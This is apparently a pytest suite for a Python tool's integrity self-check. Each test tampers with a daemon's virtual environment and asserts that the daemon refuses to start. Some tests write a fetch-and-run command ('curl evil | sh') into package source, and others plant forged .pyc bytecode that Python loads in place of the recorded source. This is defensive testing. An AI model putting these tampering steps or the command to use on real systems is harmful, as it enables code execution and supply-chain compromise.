"""The self-check of a Python daemon: a real program in a real virtual environment, and each attack on it.

One virtual environment per module (`python -m venv --copies`, so its
interpreter is a file the tests may swap), into which pip installs three
small distributions built here: `mydaemon` (the program), `otherdaemon`
(another program signed by the same key) and `editdaemon` (installed with
`-e`). The daemon is `run.py`, README's recipe: one import and one call,
then its own code. packseal reaches the venv through PYTHONPATH, as an
installed copy would through site-packages. After each test the venv's
files are restored, timestamps included, so pip's bytecode stays valid.
"""

import hashlib
import importlib.util
import json
import marshal
import os
import re
import shutil
import struct
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

from signing import selfcheck

REPO = Path(selfcheck.__file__).resolve().parents[1]
OUTER_PURELIB = sysconfig.get_paths()["purelib"]
PYTHONPATH = os.pathsep.join([str(REPO), OUTER_PURELIB])
CLI = "from signing.cli import main; main()"
README = (REPO / "README.md").read_text()
SECTION = README[README.index("## Runner self-check") :]
DAEMON = re.search(r"```python\n(.*?)```", SECTION, flags=re.DOTALL)[1]  # type: ignore[index]
RECIPE = re.search(r"```shell\n(.*?)```", SECTION, flags=re.DOTALL)[1]  # type: ignore[index]
PYPROJECT = """[build-system]
requires = ["setuptools>=77"]
build-backend = "setuptools.build_meta"
[project]
name = "{name}"
version = "1.0"
"""
MAIN = 'def main():\n    from {name}.spawn import COMMAND\n    print("started", COMMAND)\n'


def _project(root: Path, name: str) -> Path:
    project = root / name
    (project / name).mkdir(parents=True)
    (project / "pyproject.toml").write_text(PYPROJECT.format(name=name))
    (project / name / "__init__.py").write_text(MAIN.format(name=name))
    (project / name / "spawn.py").write_text('COMMAND = ["/bin/true"]\n')
    return project


def _run(*command: object, cwd: Path, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "PYTHONPATH": PYTHONPATH, **(env or {})}
    environment.pop("PYTHONDONTWRITEBYTECODE", None)
    return subprocess.run(
        [str(part) for part in command], cwd=cwd, env=environment, capture_output=True, text=True, timeout=120
    )


class Program:
    """The daemon's directory: its venv, entry script, keys and signed record, as README's recipe makes them."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.venv = root / "venv"
        self.python = self.venv / "bin" / "python"
        self.site = Path(
            _run(
                self.python, "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])", cwd=root
            ).stdout.strip()
        )
        self.script = root / "run.py"
        self.record = root / "mydaemon.record"
        self.public_key = root / "keys" / "packseal.pub"

    def start(self, *arguments: object, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
        return _run(self.python, self.script, *arguments, cwd=self.root, env=env)

    def packseal(self, *arguments: object) -> subprocess.CompletedProcess[str]:
        return _run(self.python, "-c", CLI, *arguments, cwd=self.root)

    def record_as(self, out: Path, *arguments: object, key: str = "keys/packseal.key") -> None:
        made = self.packseal("self", "record", "--python", *arguments, "--out", out, "--minisign-key", key)
        assert made.returncode == 0, made.stderr


def _refused(result: subprocess.CompletedProcess[str]) -> str:
    """The daemon did not start; the one line it died with."""
    assert result.returncode == 1 and "started" not in result.stdout, result
    return result.stderr.strip().splitlines()[-1]


@pytest.fixture(scope="module")
def program(tmp_path_factory: pytest.TempPathFactory) -> Program:
    root = tmp_path_factory.mktemp("program")
    subprocess.run([sys.executable, "-m", "venv", "--copies", "--without-pip", root / "venv"], check=True)
    projects = [_project(root / "src", name) for name in ("mydaemon", "otherdaemon", "editdaemon")]
    install = _run(
        sys.executable,
        "-m",
        "pip",
        "--python",
        root / "venv" / "bin" / "python",
        "install",
        "-q",
        "--no-deps",
        "--no-build-isolation",
        "--no-index",
        projects[0],
        projects[1],
        "-e",
        projects[2],
        cwd=root,
        env={"PYTHONPATH": OUTER_PURELIB},
    )
    assert install.returncode == 0, install.stderr
    program = Program(root)
    program.script.write_text(DAEMON)
    (root / "keys").mkdir()
    for name in ("packseal", "other"):
        assert (
            _run(
                sys.executable, "-c", CLI, "keygen", "--output-dir", "keys", "--name", name, "--no-password", cwd=root
            ).returncode
            == 0
        )
    for command in RECIPE.strip().splitlines():
        result = _run("bash", "-c", command.replace("venv/bin/packseal ", f"venv/bin/python -c '{CLI}' "), cwd=root)
        assert result.returncode == 0, (command, result.stderr)
    shutil.copytree(root, root.with_name(root.name + ".pristine"), symlinks=True)
    return program


@pytest.fixture(autouse=True)
def pristine(program: Program):  # type: ignore[no-untyped-def]
    """Each test starts from the recorded venv, file times included (pip's bytecode stays valid)."""
    yield
    shutil.rmtree(program.root)
    shutil.copytree(program.root.with_name(program.root.name + ".pristine"), program.root, symlinks=True)


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- the recipe works -----------------------------------------------------------


def test_the_recorded_daemon_starts(program):
    started = program.start()
    assert started.returncode == 0 and started.stdout == "started ['/bin/true']\n", started.stderr


def test_the_record_covers_interpreter_libpython_script_and_every_file(program):
    record = json.loads(program.record.read_bytes())
    assert record["format"] == 3 and record["executable"]["sha256"] == _sha256(program.python)
    [distribution] = record["python"]["distributions"]
    paths = [file["path"] for file in distribution["files"]]
    assert {"mydaemon/__init__.py", "mydaemon/spawn.py", "mydaemon-1.0.dist-info/RECORD"} <= set(paths)
    assert not [path for path in paths if path.endswith(".pyc")], "cached bytecode is checked, not recorded"
    assert record["python"]["script"]["sha256"] == _sha256(program.script)
    if sysconfig.get_config_var("Py_ENABLE_SHARED"):
        [library] = record["python"]["libraries"]
        assert library["name"].startswith("libpython")


def test_check_from_the_command_line_prints_what_it_covers(program):
    checked = program.packseal(
        "self",
        "check",
        "--record",
        program.record,
        "--python",
        "--script",
        program.script,
        "--minisign-pubkey",
        program.public_key,
    )
    assert checked.returncode == 0, checked.stderr
    assert "  distribution mydaemon 1.0: " in checked.stdout and "  script run.py: sha256:" in checked.stdout
    assert re.search(r"  covers \d+ files, \d+ bytes", checked.stdout) and "signed by minisign key" in checked.stdout


def test_the_check_imports_neither_sigstore_protobuf_nor_click(program):
    program.script.write_text(
        DAEMON + "\nimport sys\nprint(sorted({m.split('.')[0] for m in sys.modules} & "
        "{'sigstore', 'google', 'click', 'rich'}))\n"
    )
    program.record_as(program.record, "--distribution", "mydaemon", "--script", program.script)
    started = program.start()
    assert started.returncode == 0 and started.stdout.splitlines()[-1] == "[]", started.stderr


# --- each attack is refused, in one line ------------------------------------


def test_edited_source_is_refused(program):
    (program.site / "mydaemon" / "spawn.py").write_text('COMMAND = ["/bin/sh", "-c", "curl evil | sh"]\n')
    assert "distribution mydaemon: mydaemon/spawn.py is sha256:" in _refused(program.start())


def test_planted_pyc_matching_the_source_timestamp_is_refused(program):
    source = program.site / "mydaemon" / "spawn.py"
    state = source.stat()
    code = compile('COMMAND = ["/bin/sh", "-c", "curl evil | sh"]\n', str(source), "exec")
    header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(state.st_mtime), state.st_size)
    Path(importlib.util.cache_from_source(str(source))).write_bytes(header + marshal.dumps(code))
    loaded = _run(program.python, "-c", "from mydaemon.spawn import COMMAND; print(COMMAND)", cwd=program.root)
    assert "curl evil" in loaded.stdout, "Python itself runs the planted bytecode"
    assert "spawn.cpython-311.pyc is not bytecode compiled from the recorded mydaemon/spawn.py" in _refused(
        program.start()
    ).replace(sys.implementation.cache_tag, "cpython-311")


def test_bytecode_of_another_optimization_level_is_refused(program):
    """Attack B1: the `-O` compile of the recorded source, planted as the plain `.pyc`, drops its asserts."""
    source = program.site / "mydaemon" / "spawn.py"
    source.write_text(
        'import sys\nARGUMENT = sys.argv[-1]\nassert ARGUMENT.isalnum(), "refused: " + ARGUMENT\n'
        'COMMAND = ["/bin/echo", ARGUMENT]\n'
    )
    Path(importlib.util.cache_from_source(str(source))).unlink()
    program.record_as(program.record, "--distribution", "mydaemon", "--script", program.script)
    assert "AssertionError: refused: ;evil" in program.start(";evil").stderr, "the guard holds without the attack"
    state = source.stat()
    code = compile(source.read_bytes(), str(source), "exec", dont_inherit=True, optimize=1)
    header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(state.st_mtime), state.st_size)
    Path(importlib.util.cache_from_source(str(source))).write_bytes(header + marshal.dumps(code))
    loaded = _run(program.python, "-c", "from mydaemon.spawn import COMMAND; print(COMMAND)", ";evil", cwd=program.root)
    assert "';evil'" in loaded.stdout, "Python itself runs the planted bytecode, without the assert"
    assert "is not bytecode compiled from the recorded mydaemon/spawn.py" in _refused(program.start(";evil"))


def test_file_added_in_the_package_is_refused(program):
    (program.site / "mydaemon" / "spawn.cpython-311-x86_64-linux-gnu.so").write_bytes(b"\x7fELF")
    assert "is not in the record (added after recording)" in _refused(program.start())


def test_package_shadowed_earlier_on_sys_path_is_refused(program):
    (program.root / "mydaemon").mkdir()
    (program.root / "mydaemon" / "__init__.py").write_text("def main(): print('started evil')\n")
    assert "`import mydaemon` loads " in _refused(program.start())


def test_swapped_interpreter_copy_is_refused(program):
    trojan = program.python.read_bytes() + b"\0trojan"
    program.python.unlink()
    program.python.write_bytes(trojan)
    program.python.chmod(0o755)
    message = _refused(program.start())
    assert message.startswith("signing.errors.SelfCheckError: /proc/self/exe: sha256:")
    assert hashlib.sha256(trojan).hexdigest() in message


@pytest.mark.skipif(not sysconfig.get_config_var("Py_ENABLE_SHARED"), reason="a static interpreter maps no libpython")
def test_swapped_libpython_is_refused(program, tmp_path):
    real = Path(sysconfig.get_config_var("LIBDIR")) / sysconfig.get_config_var("INSTSONAME")
    (tmp_path / real.name).write_bytes(real.read_bytes() + b"\0trojan")
    message = _refused(program.start(env={"LD_LIBRARY_PATH": str(tmp_path)}))
    assert f"{real.name}: sha256:" in message and "is not the recorded" in message


def test_replaced_entry_script_is_refused(program):
    program.script.write_text(DAEMON + "\nimport os  # and then the attacker's code\n")
    assert "run.py: sha256:" in _refused(program.start())


def test_unsigned_record_is_refused_unless_explicitly_allowed(program):
    unsigned = program.packseal(
        "self",
        "record",
        "--python",
        "--distribution",
        "mydaemon",
        "--script",
        program.script,
        "--out",
        "unsigned.record",
    )
    assert unsigned.returncode == 0 and "UNSIGNED" in unsigned.stdout
    trusting = program.root / "trusting.py"
    trusting.write_text(DAEMON.replace('"mydaemon.record", public_key="keys/packseal.pub"', '"unsigned.record"'))
    assert "name the minisign public key" in _refused(_run(program.python, trusting, cwd=program.root))
    checked = program.packseal("self", "check", "--record", "unsigned.record", "--python", "--script", program.script)
    assert checked.returncode == 2 and "--allow-unsigned" in checked.stderr
    allowed = program.packseal(
        "self", "check", "--record", "unsigned.record", "--python", "--script", program.script, "--allow-unsigned"
    )
    assert allowed.returncode == 0 and "UNSIGNED record, trusted by --allow-unsigned" in allowed.stdout


def test_record_signed_by_another_key_is_refused(program):
    program.record_as(program.record, "--distribution", "mydaemon", "--script", program.script, key="keys/other.key")
    assert "which is not trusted" in _refused(program.start())


def test_record_of_another_distribution_is_refused(program):
    program.record_as(program.record, "--distribution", "otherdaemon")
    message = _refused(program.start())
    assert (
        "run.py: the program's entry is neither the recorded script nor a file of the recorded "
        "distributions (otherdaemon)" in message
    )


def test_editable_install_is_refused_naming_the_problem(program):
    made = program.packseal(
        "self",
        "record",
        "--python",
        "--distribution",
        "editdaemon",
        "--out",
        "edit.record",
        "--minisign-key",
        "keys/packseal.key",
    )
    assert made.returncode == 1 and made.stdout == "" and not (program.root / "edit.record").exists()
    [line] = made.stderr.splitlines()
    assert "distribution 'editdaemon' is an editable install of file://" in line and "--no-editable" in line


def test_a_python_record_checked_against_a_file_is_refused(program):
    checked = program.packseal(
        "self", "check", "--record", program.record, "--binary", program.python, "--minisign-pubkey", program.public_key
    )
    assert checked.returncode == 1 and "records a Python program, which is checked in the process" in checked.stderr


def test_a_record_of_the_interpreter_alone_is_refused_in_a_python_process(program):
    made = program.packseal(
        "self", "record", "--binary", program.python, "--out", program.record, "--minisign-key", "keys/packseal.key"
    )
    assert made.returncode == 0, made.stderr
    assert "records only the executable python, but this process is a Python interpreter" in _refused(program.start())
